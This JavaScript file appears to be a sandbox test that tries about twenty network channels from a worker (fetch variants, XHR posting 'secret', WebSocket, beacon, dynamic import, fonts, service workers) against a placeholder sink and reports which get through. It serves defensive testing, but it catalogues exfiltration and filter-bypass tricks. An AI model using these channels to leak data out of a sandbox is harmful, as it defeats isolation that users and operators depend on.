// Every way out that a worker might have. Prints one line an attempt; SINK answers all that ask.
const sink = 'SINK';
const socket = (make) =>
  new Promise((resolve, reject) => {
    const made = make();
    made.onopen = resolve;
    made.onmessage = resolve;
    made.onerror = reject;
  });
const attempts = {
  fetch: () => fetch(sink + 'fetch'),
  'fetch, no-cors': () => fetch(sink + 'no-cors', { mode: 'no-cors', keepalive: true }),
  'fetch, as the constructor of a function': () =>
    (() => {}).constructor('url', 'return fetch(url)')(sink + 'constructor'),
  'fetch, from the prototype': () =>
    Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, sink + 'proto'),
  Request: () => fetch(new Request(sink + 'request')),
  XMLHttpRequest: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('POST', sink + 'xhr', true);
      request.onload = resolve;
      request.onerror = reject;
      request.send('secret');
    }),
  'XMLHttpRequest, waiting': () => {
    const request = new XMLHttpRequest();
    request.open('GET', sink + 'xhr-sync', false);
    request.send();
  },
  WebSocket: () => socket(() => new WebSocket(sink.replace('http', 'ws') + 'ws')),
  WebSocketStream: () => new WebSocketStream(sink.replace('http', 'ws') + 'wss').opened,
  EventSource: () => socket(() => new EventSource(sink + 'events')),
  WebTransport: () => new WebTransport(sink.replace('http', 'https') + 'transport').ready,
  RTCPeerConnection: () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:localhost' }] }),
  sendBeacon: () => {
    if (!navigator.sendBeacon(sink + 'beacon', 'secret')) throw new Error('refused');
  },
  importScripts: () => importScripts(sink + 'script.js'),
  'import()': () => (() => {}).constructor('url', 'return import(url)')(sink + 'module.js'),
  'import() of a blob that imports': () => {
    const text = `import ${JSON.stringify(sink + 'nested.js')};`;
    const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
    return (() => {}).constructor('url', 'return import(url)')(url);
  },
  'FontFace': () => new FontFace('leak', `url(${sink}font.woff)`).load(),
  'Worker from its address': () => socket(() => new Worker(sink + 'worker.js')),
  'SharedWorker': () => socket(() => new SharedWorker(sink + 'shared.js')),
  'WebAssembly, streaming': () => WebAssembly.compileStreaming(fetch(sink + 'core.wasm')),
  'service worker': () => navigator.serviceWorker.register(sink + 'sw.js'),
};
const soon = (promise) =>
  Promise.race([
    promise,
    new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1000)),
  ]);
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    await soon(attempt());
    console.log(`${name}: REACHED`);
  } catch (error) {
    console.log(`${name}: refused`);
  }
}
